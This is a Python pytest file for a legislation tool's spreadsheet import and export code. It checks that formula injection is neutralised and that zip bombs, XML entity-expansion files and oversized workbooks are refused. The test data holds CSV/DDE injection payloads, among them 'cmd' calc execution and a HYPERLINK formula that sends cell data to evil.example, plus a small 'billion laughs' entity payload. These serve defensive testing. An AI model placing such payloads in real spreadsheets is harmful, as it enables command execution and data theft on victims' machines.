"""Tables out and in: no cell of ours is computed, and nothing is guessed or swallowed."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from legislation.admin import sheet_files
from legislation.admin.sheet_files import (
    Table,
    Unreadable,
    neutralised,
    read_file,
    read_pasted,
    restored,
    write_csv,
    write_xlsx,
)

_BODIES = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]
_BEGINNINGS = ["", " ", "\u00a0\u200b", "\t", "'"]
#: Sixty: each way to begin a formula after each thing that may stand before it.
PAYLOADS = [before + body for body in _BODIES for before in _BEGINNINGS]
TRIGGERS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_a_formula_and_each_comes_back_as_it_was(payload: str) -> None:
    assert neutralised(payload).startswith("'")
    assert restored(neutralised(payload)) == payload
    assert restored(neutralised(neutralised(payload))) == neutralised(payload)
    split = f"Ja;{payload}"
    assert all(part.lstrip()[:1] not in TRIGGERS for part in neutralised(split).split(";"))
    assert restored(neutralised(split)) == split


@pytest.mark.parametrize(
    "text", ["'s Lands wijs", "a - b", "5 - 3", "x@example.org", "", "'", "''a"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutralised(text) == text == restored(text)


def test_a_csv_of_payloads_holds_no_formula() -> None:
    data = write_csv(["summary"], [[payload] for payload in PAYLOADS])
    assert data.startswith(b"\xef\xbb\xbf")
    cells = [row[0] for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))]
    assert all(cell.startswith("'") for cell in cells[1:])
    assert [row[0] for row in read_file("a.csv", data).rows] == PAYLOADS


def test_a_workbook_of_payloads_holds_no_formula() -> None:
    data = write_xlsx(["summary"], [[payload] for payload in PAYLOADS])
    sheet = load_workbook(io.BytesIO(data))["positions"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == 60
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in b"".join(archive.read(name) for name in archive.namelist())
    assert [row[0] for row in read_file("a.xlsx", data).rows] == PAYLOADS


def test_a_csv_is_read_as_spreadsheets_write_it() -> None:
    want = Table(["state", "summary"], [["DE", "Ja, „nein“"]], [2])
    for text in (
        '\ufeffstate,summary\r\nDE,"Ja, „nein“"\r\n',
        "state;summary\r\nDE;Ja, „nein“\r\n",
        "state\tsummary\nDE\tJa, „nein“",
    ):
        assert read_file("a.csv", text.encode()) == want
        assert read_file("a.txt", text.lstrip("\ufeff").encode("utf-16")) == want
        assert read_pasted(text.lstrip("\ufeff")) == want


def test_rows_keep_their_numbers_when_some_are_empty() -> None:
    table = read_file("a.csv", b'state,summary\n\nDE,"two\nlines"\n , \nFR,x\n')
    assert (table.numbers, table.rows[0][1]) == ([3, 5], "two\nlines")


@pytest.mark.parametrize(
    ("data", "said"),
    [
        ("state,summary\nDE,Größe\n".encode("cp1252"), "Line 2 is not in UTF-8"),
        (b'state,summary\nDE,"open\n', "Line 2 cannot be read"),
        (b"state,summary\nDE,a\x07b\n", r"Cell B2 holds a character .* \(U\+0007\)"),
        (b"state\n" + b"DE\n" * 2001, "more than 2000 rows"),
        (b"x" * (2 * 1024 * 1024 + 1), "more than 2 MB"),
        (b" \n", "nothing in it"),
        (b"\xd0\xcf\x11\xe0old", "no XLSX"),
        (b"PK\x03\x04 cut off", "damaged"),
    ],
)
def test_a_file_that_cannot_be_trusted_is_refused(data: bytes, said: str) -> None:
    with pytest.raises(Unreadable, match=said):
        read_file("a.csv", data)


def workbook(*rows: list[Any]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_formula_in_a_workbook_is_named_and_refused() -> None:
    with pytest.raises(Unreadable, match="Cell B3 holds a formula"):
        read_file("a.xlsx", workbook(["state", "place"], ["DE", 80.0], ["FR", "=40+40"]))


def test_numbers_and_days_of_a_workbook_are_read_as_text() -> None:
    from datetime import datetime

    day = datetime(2025, 6, 1, 0, 0)  # noqa: DTZ001
    table = read_file(
        "a.xlsx", workbook(["stated_on", "place"], [day, 80.0], [None, None], ["", 7])
    )
    assert table == Table(["stated_on", "place"], [["2025-06-01", "80"], ["", "7"]], [2, 4])


def zipped(**parts: bytes) -> bytes:
    """A good workbook with further parts, or others in their place."""
    good = zipfile.ZipFile(io.BytesIO(workbook(["state"], ["DE"])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in good.namelist():
            archive.writestr(name, parts.get(name, good.read(name)))
        for name in parts.keys() - set(good.namelist()):
            archive.writestr(name, parts[name])
    return out.getvalue()


def test_a_workbook_that_grows_without_end_is_not_unpacked() -> None:
    bomb = zipped(**{"xl/sharedStrings.xml": b" " * (sheet_files.LARGEST_INSIDE + 1)})
    assert len(bomb) < 100_000
    with pytest.raises(Unreadable, match="unpacks to more than 20 MB"):
        read_file("a.xlsx", bomb)
    laughs = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    for part in (laughs, laughs.decode().encode("utf-16")):
        with pytest.raises(Unreadable, match="declarations"):
            read_file("a.xlsx", zipped(**{"xl/sharedStrings.xml": part}))


def test_a_cell_in_the_last_corner_does_not_make_a_table_of_millions() -> None:
    book = Workbook()
    book.active["XFD1048576"] = "x"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(Unreadable, match="far larger"):
        read_file("a.xlsx", out.getvalue())
